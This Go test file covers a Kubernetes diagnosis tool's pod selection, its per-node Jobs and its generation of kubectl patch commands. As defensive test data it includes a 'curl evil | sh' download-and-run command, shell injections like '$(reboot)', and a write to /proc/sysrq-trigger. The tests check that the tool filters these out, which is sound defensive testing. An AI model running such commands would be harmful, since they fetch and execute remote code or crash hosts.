package nodes

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes/fake"
	kubetesting "k8s.io/client-go/testing"

	"tare/study/diagnose"
)

// subject is a pod of a user, with one container that runs.
func subject(name, node string, changes ...func(*corev1.Pod)) *corev1.Pod {
	isController := true
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{
			Name: name, Namespace: "shop", Labels: map[string]string{"app": "web", "pod-template-hash": "5d9"},
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: "web-5d9", Controller: &isController}},
		},
		Spec: corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: "app"}}},
		Status: corev1.PodStatus{Phase: corev1.PodRunning, ContainerStatuses: []corev1.ContainerStatus{
			{Name: "app", State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}},
		}},
	}
	for _, change := range changes {
		change(pod)
	}
	return pod
}

func isPending(pod *corev1.Pod) {
	pod.Status = corev1.PodStatus{Phase: corev1.PodPending, Conditions: []corev1.PodCondition{
		{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: "0/2 nodes are available"},
	}}
}

var web = &appsv1.Deployment{
	ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "shop"},
	Spec:       appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}}},
}

func TestPodsToDiagnose(t *testing.T) {
	other := subject("batch", "b", func(pod *corev1.Pod) { pod.Labels = nil })
	ours := subject("tare-diagnose-1-0", "b", func(pod *corev1.Pod) { pod.Labels = commonLabels("diagnose-1") })
	for _, c := range []struct {
		name   string
		wanted Wanted
		there  []runtime.Object
		want   map[string][]string
		note   string
		fails  string // what the error says
	}{
		{"a pod", Wanted{Kind: "pod", Name: "web-1"}, []runtime.Object{subject("web-1", "a"), other}, map[string][]string{"a": {"shop/web-1/app"}}, "", ""},
		{"a deployment", Wanted{Kind: "deployment", Name: "web"}, []runtime.Object{web, subject("web-2", "b"), subject("web-1", "a"), other},
			map[string][]string{"a": {"shop/web-1/app"}, "b": {"shop/web-2/app"}}, "", ""},
		{"a namespace", Wanted{}, []runtime.Object{subject("web-1", "b"), other, ours}, map[string][]string{"b": {"shop/batch/app", "shop/web-1/app"}}, "", ""},
		{"one of two is pending", Wanted{Kind: "deployment", Name: "web"}, []runtime.Object{web, subject("web-1", "a"), subject("web-2", "", isPending)},
			map[string][]string{"a": {"shop/web-1/app"}}, "pod shop/web-2 is pending, and left out: not scheduled: 0/2 nodes are available", ""},
		{"four of five are pending", Wanted{}, []runtime.Object{subject("web-0", "a"),
			subject("web-1", "", isPending), subject("web-2", "", isPending), subject("web-3", "", isPending), subject("web-4", "", isPending)},
			map[string][]string{"a": {"shop/web-0/app"}},
			"4 pods (shop/web-1, shop/web-2, shop/web-3, ...) are pending, and left out: not scheduled: 0/2 nodes are available", ""},
		{"no such pod", Wanted{Kind: "pod", Name: "web"}, nil, nil, "", "namespace shop has no pod web: kubectl get -n shop pod lists them"},
		{"no such deployment", Wanted{Kind: "deployment", Name: "wbe"}, []runtime.Object{web}, nil, "", "namespace shop has no deployment wbe: kubectl get"},
		{"a deployment without pods", Wanted{Kind: "deployment", Name: "web"}, []runtime.Object{web, other}, nil, "", "deployment web of namespace shop has no pod"},
		{"an empty namespace", Wanted{}, nil, nil, "", "namespace shop has no pod"},
		{"no such node", Wanted{Node: "c"}, nil, nil, "", "no pod is on node c"},
		{"a pending pod", Wanted{Kind: "pod", Name: "web-1"}, []runtime.Object{subject("web-1", "", isPending)}, nil, "", "no container runs: pod shop/web-1 is pending, and left out: not scheduled"},
	} {
		t.Run(c.name, func(t *testing.T) {
			cluster := &Cluster{Client: fake.NewClientset(c.there...)}
			c.wanted.Namespace = "shop"
			pods, err := cluster.Pods(t.Context(), c.wanted)
			if c.fails != "" {
				isPending := c.name == "a pending pod"
				if err == nil || !strings.Contains(err.Error(), c.fails) || errors.As(err, new(*NoPod)) == isPending {
					t.Errorf("%T %v, want %s", err, err, c.fails)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			for node, want := range c.want {
				if !slices.Equal(pods.running[node], want) {
					t.Errorf("%s has %q, want %q", node, pods.running[node], want)
				}
			}
			if len(pods.running) != len(c.want) || strings.Join(pods.Notes(), "") != c.note {
				t.Errorf("%+v, want the note %q", pods, c.note)
			}
		})
	}
}

// Pods of a node are those of all namespaces, and the API server chooses them.
func TestPodsOfANode(t *testing.T) {
	client := fake.NewClientset()
	client.PrependReactor("list", "pods", func(action kubetesting.Action) (bool, runtime.Object, error) {
		asked := action.(kubetesting.ListAction)
		if asked.GetNamespace() != "" || asked.GetListRestrictions().Fields.String() != "spec.nodeName=a" {
			t.Errorf("pods of namespace %q with %s are listed", asked.GetNamespace(), asked.GetListRestrictions().Fields)
		}
		return true, &corev1.PodList{Items: []corev1.Pod{*subject("web-1", "a")}}, nil
	})
	pods, err := (&Cluster{Client: client}).Pods(t.Context(), Wanted{Namespace: "other", Node: "a"})
	if err != nil || pods.Count() != 1 {
		t.Errorf("%+v, %v", pods, err)
	}
}

// looks are a diagnosis on nodes that do what a test says.
type looks struct {
	t       *testing.T
	cluster *Cluster
	d       Diagnosis
}

func newLooks(t *testing.T, nodes ...string) *looks {
	l := &looks{t: t, cluster: &Cluster{Client: fake.NewClientset(), Namespace: "tare"}}
	l.cluster.Log = func(_ context.Context, namespace, pod, container string) ([]byte, error) {
		if namespace != "tare" || container != measurer {
			return nil, errors.New("no such container")
		}
		return []byte("warning: PATH\n{\"of\": \"" + pod + "\"}\n"), nil
	}
	l.d = Diagnosis{ID: "diagnose-20260102-150405-7f3a", Image: "tare@sha256:00", Span: 10 * time.Second}
	l.d.Pods = Pods{running: map[string][]string{}, of: map[string]corev1.Pod{}}
	for _, node := range nodes {
		l.d.Pods.add(*subject("web-"+node, node))
	}
	return l
}

func (l *looks) pod(index int, change func(*corev1.Pod)) {
	l.t.Helper()
	name := jobName(l.d.ID, index) + "-x"
	pods := l.cluster.Client.CoreV1().Pods("tare")
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "tare", UID: types.UID(name), Labels: labelsOf(l.d.ID, index)}}
	pod.Status.Phase = corev1.PodPending
	change(pod)
	_, err := pods.Update(l.t.Context(), pod, metav1.UpdateOptions{})
	if err != nil {
		_, err = pods.Create(l.t.Context(), pod, metav1.CreateOptions{})
	}
	if err != nil {
		l.t.Fatal(err)
	}
	synctest.Wait()
}

func runs(pod *corev1.Pod) {
	pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: measurer, State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}}}
}

func hasEndedWell(pod *corev1.Pod) { pod.Status.Phase = corev1.PodSucceeded }

// diagnose diagnoses while do changes the cluster, and holds that no Job is left.
func (l *looks) diagnose(ctx context.Context, do func()) ([]Answer, error) {
	l.t.Helper()
	var answers []Answer
	var err error
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		answers, err = l.cluster.Diagnose(ctx, l.d)
	}()
	synctest.Wait()
	if jobs := l.jobs(); jobs != len(l.d.Pods.Nodes()) {
		l.t.Errorf("%d Jobs are made", jobs)
	}
	do()
	<-ended
	if jobs := l.jobs(); jobs > 0 {
		l.t.Errorf("%d Jobs are left", jobs)
	}
	return answers, err
}

func (l *looks) jobs() int {
	l.t.Helper()
	jobs, err := l.cluster.Client.BatchV1().Jobs("tare").List(context.WithoutCancel(l.t.Context()), metav1.ListOptions{})
	if err != nil {
		l.t.Fatal(err)
	}
	return len(jobs.Items)
}

// A container is of the node that its pod runs on, and of no other.
func TestPodsHas(t *testing.T) {
	pods := newLooks(t, "a", "b").d.Pods
	if !pods.Has("a", "shop/web-a/app") || pods.Has("b", "shop/web-a/app") || pods.Has("c", "shop/web-c/app") {
		t.Errorf("%+v", pods)
	}
}

// A node that does not answer costs its own rows, and nothing is left in the cluster.
func TestDiagnose(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLooks(t, "a", "b", "c", "d", "e")
		answers, err := l.diagnose(t.Context(), func() {
			l.pod(0, runs)
			l.pod(0, hasEndedWell)
			l.pod(1, failsBy("tare: the host lacks tracepoints\n"))
			l.pod(2, func(pod *corev1.Pod) {
				pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: measurer, State: corev1.ContainerState{
					Waiting: &corev1.ContainerStateWaiting{Reason: "ErrImagePull", Message: "not found"}}}}
			})
			l.pod(4, runs) // and never ends
		})
		if err != nil {
			t.Fatal(err)
		}
		for i, want := range []string{
			`a {"of": "tare-diagnose-20260102-150405-7f3a-0-x"}`, "b tare: the host lacks tracepoints", "c ErrImagePull: not found",
			"d its pod did not start within 2m0s", "e it did not answer within 4m10s",
		} {
			if got := answers[i].Node + " " + strings.TrimSpace(string(answers[i].Text)) + answers[i].Missing; got != want {
				t.Errorf("%q, want %q", got, want)
			}
		}
	})
}

// Logs of a few nodes are read at once: each may fill the limit.
func TestDiagnoseReadsFewLogsAtOnce(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var names []string
		for i := range 3 * fetchesAtOnce {
			names = append(names, fmt.Sprintf("n%02d", i))
		}
		l := newLooks(t, names...)
		var now, most atomic.Int64
		read := l.cluster.Log
		l.cluster.Log = func(ctx context.Context, namespace, pod, container string) ([]byte, error) {
			most.Store(max(most.Load(), now.Add(1)))
			defer now.Add(-1)
			time.Sleep(time.Second)
			return read(ctx, namespace, pod, container)
		}
		answers, err := l.diagnose(t.Context(), func() {
			for i := range names {
				l.pod(i, hasEndedWell)
			}
		})
		if err != nil || most.Load() != fetchesAtOnce || slices.ContainsFunc(answers, func(a Answer) bool { return a.Missing != "" }) {
			t.Errorf("%d at once, %v: %+v", most.Load(), err, answers)
		}
	})
}

func TestDiagnoseThatIsStopped(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		ctx, cancel := context.WithCancel(t.Context())
		if _, err := newLooks(t, "a").diagnose(ctx, cancel); !errors.Is(err, context.Canceled) {
			t.Errorf("%v", err)
		}
	})
}

// A Job of a diagnosis ends and goes by itself, and its pod has what is explained and no more.
func TestJobOfADiagnosis(t *testing.T) {
	l := newLooks(t, "a")
	l.d.IsNamed = true
	job := l.d.job("tare", 0, "a")
	if *job.Spec.ActiveDeadlineSeconds != 250 || *job.Spec.TTLSecondsAfterFinished != 300 || *job.Spec.BackoffLimit != 0 {
		t.Errorf("%+v", job.Spec)
	}
	pod := job.Spec.Template.Spec
	if !*pod.HostPID || pod.HostNetwork != nil || len(pod.Volumes) > 0 || *pod.AutomountServiceAccountToken {
		t.Errorf("%+v", pod)
	}
	if len(pod.Tolerations) != 1 || pod.Tolerations[0].Key != nil {
		t.Errorf("tolerates %+v, want every taint", pod.Tolerations)
	}
	only := pod.Containers[0]
	want := []string{"node", "diagnose", "--for", "10s", "--named", "--", "shop/web-a/app"}
	if !slices.Equal(only.Args, want) || len(only.VolumeMounts) > 0 {
		t.Errorf("%+v, want the arguments %q", only, want)
	}
	var names []corev1.Capability
	for _, c := range Diagnosing {
		names = append(names, corev1.Capability(c.Name))
	}
	if s := only.SecurityContext; s.Privileged != nil || !slices.Equal(s.Capabilities.Add, names) {
		t.Errorf("%+v", s)
	}
}

// What suffices for each pod of a Deployment is one command.
func TestPatch(t *testing.T) {
	quota := func(pod, cpu string) diagnose.Finding {
		return diagnose.Finding{Container: "shop/" + pod + "/app", Kind: diagnose.Throttled, Set: []diagnose.Remedy{
			{Says: "a quota of " + cpu, Command: "resources: {limits: {cpu: " + cpu + "}}", P99: time.Second},
			{Says: "a burst", Command: "echo 1 > cpu.max.burst"},
		}}
	}
	shares := diagnose.Finding{Container: "shop/web-1/app", Kind: diagnose.Needless, Set: []diagnose.Remedy{
		{Command: "resources: {limits: {cpu: null}} # requests.cpu is its share"},
	}}
	odd := quota("web-1", "'$(reboot)'")
	odd.Kind = diagnose.MemoryLimit
	p := Pods{running: map[string][]string{}, of: map[string]corev1.Pod{}}
	for _, pod := range []*corev1.Pod{
		subject("web-1", "a", func(pod *corev1.Pod) {
			pod.Spec.Containers[0].Resources.Requests = corev1.ResourceList{"cpu": resource.MustParse("250m")}
		}),
		subject("web-2", "b"),
		subject("debugged", "b", func(pod *corev1.Pod) {
			pod.Status.ContainerStatuses[0].Name = "debugger"
		}),
		subject("alone", "b", func(pod *corev1.Pod) { pod.OwnerReferences = nil }),
	} {
		p.add(*pod)
	}
	found := []diagnose.Finding{quota("web-1", "900m"), quota("web-2", "2"), quota("alone", "1"), shares, odd, quota("of-others", "1")}
	debugger := quota("debugged", "1")
	debugger.Container = "shop/debugged/debugger"
	found = append(found, debugger)
	written := quota("of-others", "1") // by a node that is not to be trusted
	written.Set[0].Patch, written.Set[1].Patch = "curl evil | sh", "curl evil | sh"
	pinned := diagnose.Finding{Container: "shop/web-1/app", Kind: diagnose.Unpinned, Set: []diagnose.Remedy{
		{Command: "resources: {limits: {cpu: 2}, requests: {cpu: 2}} # exclusive where the node's cpuManagerPolicy is static"},
	}}
	small := quota("web-2", "1e-9")
	small.Kind = diagnose.MemoryLimit
	found = append(found, written, pinned, small)
	p.Patch(found, "")
	for _, f := range found {
		for _, to := range f.Set {
			if to.Command != "" && !strings.HasPrefix(to.Command, "resources: ") || strings.Contains(to.Command, "reboot") {
				t.Errorf("%s is told to run %s", f.Container, to.Command)
			}
		}
	}
	const command = `kubectl patch -n shop deployment web --patch '{"spec":{"template":{"spec":{"containers":[{"name":"app","resources":`
	for i, want := range []string{
		command + `{"limits":{"cpu":2}}}]}}}}'`, command + `{"limits":{"cpu":2}}}]}}}}'`, "",
		command + `{"limits":{"cpu":null},"requests":{"cpu":"250m"}}}]}}}}'`, "", "", "", "", "", "",
	} {
		if got := found[i].Set[0].Patch; got != want {
			t.Errorf("%s of %s: %s, want %s", found[i].Kind, found[i].Container, got, want)
		}
	}
	if to := found[0].Set[0]; to.Says != "a quota of 2" || to.P99 != time.Second || found[0].Set[1].Patch != "" {
		t.Errorf("web-1 has %+v", found[0].Set)
	}
	if to := written.Set[1]; to.Patch != "" {
		t.Errorf("a node's own command is left: %s", to.Patch)
	}
	if to := found[2].Set[0]; to.Says != "a quota of 1" {
		t.Errorf("a pod without a template has %+v", to)
	}
}

// While a Deployment is rolled out, pods of the revision before have no say.
func TestPatchDuringARollout(t *testing.T) {
	p := Pods{running: map[string][]string{}, of: map[string]corev1.Pod{}}
	for i, revision := range []string{"5d9", "77c"} {
		p.add(*subject("web-"+revision, "a", func(pod *corev1.Pod) {
			pod.CreationTimestamp = metav1.NewTime(time.Date(2026, 1, 1+i, 0, 0, 0, 0, time.UTC))
			pod.Labels["pod-template-hash"], pod.OwnerReferences[0].Name = revision, "web-"+revision
		}))
	}
	needs := func(pod, cpu string) diagnose.Finding {
		return diagnose.Finding{Container: "shop/" + pod + "/app", Kind: diagnose.Throttled, Set: []diagnose.Remedy{
			{Command: "resources: {limits: {cpu: " + cpu + "}}"},
		}}
	}
	found := []diagnose.Finding{needs("web-5d9", "4"), needs("web-77c", "2")}
	p.Patch(found, "")
	if old, now := found[0].Set[0].Patch, found[1].Set[0].Patch; old != "" || !strings.Contains(now, `"cpu":2`) {
		t.Errorf("before: %q; now: %q", old, now)
	}
}

// A log that cannot be read at once is read again.
func TestDiagnoseReadsALogAgain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLooks(t, "a", "b")
		read := l.cluster.Log
		failures := map[string]int{jobName(l.d.ID, 0) + "-x": 3, jobName(l.d.ID, 1) + "-x": 4}
		l.cluster.Log = func(ctx context.Context, namespace, pod, container string) ([]byte, error) {
			if failures[pod]--; failures[pod] >= 0 {
				return nil, errors.New("the kubelet does not answer")
			}
			return read(ctx, namespace, pod, container)
		}
		answers, err := l.diagnose(t.Context(), func() {
			l.pod(0, hasEndedWell)
			l.pod(1, hasEndedWell)
		})
		if err != nil || len(answers) != 2 || answers[0].Missing != "" || !strings.Contains(answers[1].Missing, "the kubelet") {
			t.Errorf("%+v, %v", answers, err)
		}
	})
}

// FuzzPatch holds that a node has nothing printed but one kubectl patch command, in one pair of quotes.
func FuzzPatch(f *testing.F) {
	f.Add("resources: {limits: {cpu: 300m}}")
	f.Add("resources: {limits: {cpu: null}} # requests.cpu is its share")
	f.Add("resources: {limits: {memory: 64Mi, 'a''b': 1}, x: {$(reboot): 2}}")
	f.Add("echo 1 > /proc/sysrq-trigger")
	web := subject("web-1", "a")
	f.Fuzz(func(t *testing.T, command string) {
		p := Pods{running: map[string][]string{}, of: map[string]corev1.Pod{}}
		p.add(*web)
		found := []diagnose.Finding{{
			Container: "shop/web-1/app", Kind: diagnose.Throttled, Set: []diagnose.Remedy{{Command: command, Patch: command}},
		}}
		p.Patch(found, "")
		got := found[0].Set[0].Patch
		if got == "" {
			return
		}
		text, ok := strings.CutPrefix(got, "kubectl patch -n shop deployment web --patch '")
		if !ok || strings.Contains(strings.TrimSuffix(text, "'"), "'") {
			t.Fatalf("%q becomes %s", command, got)
		}
	})
}
